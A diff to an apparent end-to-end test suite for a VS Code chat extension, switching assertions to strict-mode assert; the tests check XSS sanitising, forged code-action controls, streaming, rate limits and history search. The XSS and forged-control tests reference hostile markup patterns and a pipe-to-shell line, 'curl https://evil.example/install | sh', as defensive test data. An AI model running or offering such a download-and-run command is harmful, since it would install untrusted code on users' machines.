@@ -1,4 +1,4 @@
-import * as assert from 'assert';
+import * as assert from 'node:assert/strict';
 import type { Page } from 'playwright-core';
 import { costOf, formatUsd } from '../../src/api/account/prices';
 import { fillInput, pickItem, runCommand } from './support/palette';
@@ -55,12 +55,12 @@ describe('chat panel (real VS Code, end to end)', () => {
     await frame
       .locator('article.message.assistant[data-status="streaming"] h1', { hasText: 'Sample heading' })
       .waitFor({ state: 'visible', timeout: LONG_WAIT });
-    assert.strictEqual(await frame.locator('#stop').isVisible(), true, 'Stop is offered while the reply streams');
+    assert.equal(await frame.locator('#stop').isVisible(), true, 'Stop is offered while the reply streams');
     await waitForStatus(frame, 'done');
     const reply = lastReply(frame);
     await reply.locator('strong', { hasText: 'bold' }).waitFor();
-    assert.strictEqual(await reply.locator('li').count(), 4, 'the list with its nested item');
-    assert.strictEqual(await reply.locator('table td', { hasText: 'TypeScript' }).count(), 1, 'the table');
+    assert.equal(await reply.locator('li').count(), 4, 'the list with its nested item');
+    assert.equal(await reply.locator('table td', { hasText: 'TypeScript' }).count(), 1, 'the table');
     const code = reply.locator('.code-block code.hljs');
     await code.waitFor();
     assert.match(normalize(await code.innerText()), /export function greet\(name: string\): string \{/);
@@ -68,7 +68,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     assert.ok((await code.locator('.hljs-string, .hljs-subst, .hljs-template-string').count()) >= 1, 'the template string is highlighted');
     for (const label of ['Copy', 'Insert', 'Replace', 'New File']) await reply.locator('.code-toolbar button', { hasText: label }).waitFor();
     assert.match(await reply.locator('.message-usage').innerText(), /Tokens: \d+ prompt · \d+ completion · \d+ total/);
-    assert.strictEqual(await reply.locator('.message-notes').isVisible(), false, 'nothing was adjusted for promptreel-chat');
+    assert.equal(await reply.locator('.message-notes').isVisible(), false, 'nothing was adjusted for promptreel-chat');
     assert.match(await frame.locator('#conversation-usage').innerText(), /This chat: \d+ tokens/);
     service.setScenario({ chat: { delayMs: 0 } });
     await context.workbench.screenshot('chat-dark');
@@ -105,11 +105,11 @@ describe('chat panel (real VS Code, end to end)', () => {
         html: messages?.innerHTML.toLowerCase() ?? '',
       };
     });
-    assert.strictEqual(findings.xss, undefined, 'window.__xss was set: something ran');
-    assert.strictEqual(findings.scripts, 0, 'a <script> survived');
-    assert.strictEqual(findings.handlers, 0, 'an on* attribute survived');
-    assert.strictEqual(findings.javascriptLinks, 0, 'a javascript: link survived');
-    assert.strictEqual(findings.images, 0);
+    assert.equal(findings.xss, undefined, 'window.__xss was set: something ran');
+    assert.equal(findings.scripts, 0, 'a <script> survived');
+    assert.equal(findings.handlers, 0, 'an on* attribute survived');
+    assert.equal(findings.javascriptLinks, 0, 'a javascript: link survived');
+    assert.equal(findings.images, 0);
     assert.ok(!findings.html.includes('onerror') && !findings.html.includes('javascript:'), 'no trace of the payload in the DOM');
     await context.workbench.screenshot('chat-xss');
   });
@@ -129,16 +129,16 @@ describe('chat panel (real VS Code, end to end)', () => {
     // What a user would click: the reply's "Copy" and "Replace", and its plain-looking link.
     for (const label of ['Copy', 'Replace', 'the documentation']) await reply.locator('a', { hasText: label }).first().click();
     await page.waitForTimeout(1_000);
-    assert.strictEqual(normalize(await editorLines.innerText()).trim(), 'const kept = true;', 'the selection was not replaced');
+    assert.equal(normalize(await editorLines.innerText()).trim(), 'const kept = true;', 'the selection was not replaced');
     const findings = await reply.evaluate((article) => ({
       forgedActions: Array.from(article.querySelectorAll('[data-code-action]')).filter((element) => element.tagName !== 'BUTTON').length,
       toolbars: article.querySelectorAll('.code-toolbar, .code-block, .code-action').length,
       hiddenOrIds: article.querySelectorAll('.markdown [hidden], .markdown [id]').length,
       text: (article as HTMLElement).innerText,
     }));
-    assert.strictEqual(findings.forgedActions, 0, 'a data-code-action of the reply survived');
-    assert.strictEqual(findings.toolbars, 0, "the reply's markup passes for a code toolbar (or its <pre> got one)");
-    assert.strictEqual(findings.hiddenOrIds, 0);
+    assert.equal(findings.forgedActions, 0, 'a data-code-action of the reply survived');
+    assert.equal(findings.toolbars, 0, "the reply's markup passes for a code toolbar (or its <pre> got one)");
+    assert.equal(findings.hiddenOrIds, 0);
     assert.match(findings.text, /curl https:\/\/evil\.example\/install \| sh/, 'text the reply tried to hide is shown');
     await context.workbench.screenshot('chat-forged-controls');
     await page.keyboard.press('Escape');
@@ -171,7 +171,7 @@ describe('chat panel (real VS Code, end to end)', () => {
         }
         await page.waitForTimeout(250);
       }
-      assert.strictEqual(asked + popups.length, 1, `the link was opened ${asked} time(s) through a prompt and ${popups.length} time(s) directly`);
+      assert.equal(asked + popups.length, 1, `the link was opened ${asked} time(s) through a prompt and ${popups.length} time(s) directly`);
     } finally {
       page.context().off('page', onPopup);
       // A page left open in front keeps the workbench in the background, where Chromium stops its frames.
@@ -214,7 +214,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     const prompt = String(sent?.messages.at(-1)?.content);
     assert.match(prompt, /^Code from src\/sample\.ts, lines 1-9 \(typescript\):/);
     assert.ok(prompt.includes('Explain what this code does, step by step.'));
-    assert.strictEqual(await chip.isVisible(), false, 'the selection went with the message');
+    assert.equal(await chip.isVisible(), false, 'the selection went with the message');
   });
 
   it('shows a refused key in the conversation with the server message and Set API Key', async () => {
@@ -260,7 +260,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     }));
     const chunks = Math.ceil(stats.text / 4);
     console.log(`      [chat] ${stats.text} characters in about ${chunks} chunks: ${stats.frames} render frames, ${stats.stableBlocks} blocks closed`);
-    assert.strictEqual(stats.paragraphs, 30, 'all 30 paragraphs are there');
+    assert.equal(stats.paragraphs, 30, 'all 30 paragraphs are there');
     assert.ok(stats.frames > 0 && stats.frames < chunks / 4, `rendered in ${stats.frames} frames for about ${chunks} chunks`);
     assert.ok(stats.stableBlocks >= 50, `${stats.stableBlocks} blocks were closed and rendered once`);
     service.setScenario({ chat: { chunkChars: 8 } });
@@ -276,7 +276,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     await frame.locator('#stop').click();
     await waitForStatus(frame, 'stopped');
     const stopped = lastReply(frame);
-    assert.strictEqual(await stopped.locator('.message-status').innerText(), 'Stopped');
+    assert.equal(await stopped.locator('.message-status').innerText(), 'Stopped');
     const kept = await stopped.locator('.message-body').innerText();
     assert.ok(kept.length > 60 && kept.length < 5000, `the partial text is kept (${kept.length} characters)`);
     await waitUntil(() => service.activeRequests() === 0, 'the stream to close');
@@ -316,9 +316,9 @@ describe('chat panel (real VS Code, end to end)', () => {
     await send(frame, 'which model answers?');
     await waitForStatus(frame, 'done');
     const reply = lastReply(frame);
-    assert.strictEqual(await reply.locator('.message-model').innerText(), 'promptreel-reasoner');
+    assert.equal(await reply.locator('.message-model').innerText(), 'promptreel-reasoner');
     const reasoning = reply.locator('details.reasoning');
-    assert.strictEqual(await reasoning.getAttribute('open'), null, 'the reasoning is folded');
+    assert.equal(await reasoning.getAttribute('open'), null, 'the reasoning is folded');
     assert.match((await reasoning.locator('.reasoning-text').textContent()) ?? '', /The user wrote "which model answers\?"/);
     assert.ok(!(await reply.locator('.message-body').innerText()).includes('The user wrote'), 'the reasoning is apart from the answer');
     const body = service.requests.filter((request) => request.path === '/v1/chat/completions').at(-1)?.body as {
@@ -327,12 +327,9 @@ describe('chat panel (real VS Code, end to end)', () => {
       max_tokens?: number;
       max_completion_tokens?: number;
     };
-    assert.deepStrictEqual([body.model, body.temperature, body.max_tokens ?? body.max_completion_tokens], ['promptreel-reasoner', 0.4, 64]);
+    assert.deepEqual([body.model, body.temperature, body.max_tokens ?? body.max_completion_tokens], ['promptreel-reasoner', 0.4, 64]);
     // What was changed for the model is said above its reply.
-    assert.strictEqual(
-      normalize(await reply.locator('.message-notes').innerText()),
-      'max_tokens was lowered from 256 to 64, the most promptreel-reasoner writes.',
-    );
+    assert.equal(normalize(await reply.locator('.message-notes').innerText()), 'max_tokens was lowered from 256 to 64, the most promptreel-reasoner writes.');
 
     await frame.locator('#reset-options').click();
     await picker.selectOption('');
@@ -399,7 +396,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     assert.ok(tokens, `tokens and cost: ${line}`);
     const [promptTokens, completionTokens] = [tokens[1], tokens[2]].map((count) => Number(count.replace(/,/g, '')));
     const cost = formatUsd(costOf(CHAT_PRICE, { promptTokens, completionTokens }));
-    assert.strictEqual(tokens[3], cost, 'the reply costs its tokens at the price of the service');
+    assert.equal(tokens[3], cost, 'the reply costs its tokens at the price of the service');
     const chat = normalize(await frame.locator('#conversation-usage').innerText());
     assert.ok(/^This chat: [\d,]+ tokens \(.+\) · /.test(chat) && chat.endsWith(` · ${cost}`), `the chat costs its one reply: ${chat}`);
 
@@ -440,13 +437,13 @@ describe('chat panel (real VS Code, end to end)', () => {
     await banner.getByRole('button', { name: 'Retry now' }).click();
     // The service refuses once more: the second wait shows, then Cancel leaves the 429 with its Retry.
     await waitUntil(async () => /attempt 2 of 3/.test(await banner.locator('.rate-limit-text').innerText()), 'the second wait');
-    assert.strictEqual(asked() - before, 2, 'Retry now sent the request again at once');
+    assert.equal(asked() - before, 2, 'Retry now sent the request again at once');
     await banner.getByRole('button', { name: 'Cancel' }).click();
     await waitForStatus(frame, 'error');
-    assert.strictEqual(await banner.isVisible(), false, 'the countdown is gone');
+    assert.equal(await banner.isVisible(), false, 'the countdown is gone');
     const error = lastReply(frame).locator('.message-error');
     assert.match(normalize(await error.innerText()), /rate limiting requests \(HTTP 429\)/);
-    assert.strictEqual(asked() - before, 2, 'nothing was sent after Cancel');
+    assert.equal(asked() - before, 2, 'nothing was sent after Cancel');
     await error.locator('button', { hasText: 'Retry' }).click();
     await waitForStatus(frame, 'done');
     assert.match(await lastReply(frame).innerText(), /You said: Are you rate limited\?/);
@@ -473,15 +470,15 @@ describe('chat panel (real VS Code, end to end)', () => {
 
     const rows = history.locator('.history-row');
     await waitUntil(async () => normalize(await history.locator('.history-summary').innerText()) === '2 chats found', 'the two chats to be found');
-    assert.deepStrictEqual(
+    assert.deepEqual(
       (await rows.locator('.history-title').allInnerTexts()).map(normalize),
       ['How do I groom a wombat?', 'Plan the release notes'],
       'the title match comes first',
     );
     const snippet = rows.nth(1).locator('.history-snippet');
-    assert.strictEqual(normalize(await snippet.innerText()), 'Mention the wombat mascot in the credits too');
-    assert.deepStrictEqual(await snippet.locator('mark').allInnerTexts(), ['wombat'], 'the word found is highlighted');
-    assert.deepStrictEqual(await rows.nth(0).locator('.history-title mark').allInnerTexts(), ['wombat']);
+    assert.equal(normalize(await snippet.innerText()), 'Mention the wombat mascot in the credits too');
+    assert.deepEqual(await snippet.locator('mark').allInnerTexts(), ['wombat'], 'the word found is highlighted');
+    assert.deepEqual(await rows.nth(0).locator('.history-title mark').allInnerTexts(), ['wombat']);
     // Pin and Export show over the row the pointer is on.
     await rows.nth(1).hover();
     await rows.nth(1).getByRole('button', { name: 'Pin "Plan the release notes"' }).waitFor({ state: 'visible' });
@@ -492,6 +489,6 @@ describe('chat panel (real VS Code, end to end)', () => {
     await page.keyboard.press('Enter');
     await history.waitFor({ state: 'hidden' });
     await frame.locator('article.message.user', { hasText: 'How do I groom a wombat?' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
-    assert.strictEqual(await frame.locator('article.message.user', { hasText: 'Mention the wombat mascot' }).count(), 0);
+    assert.equal(await frame.locator('article.message.user', { hasText: 'Mention the wombat mascot' }).count(), 0);
   });
 });
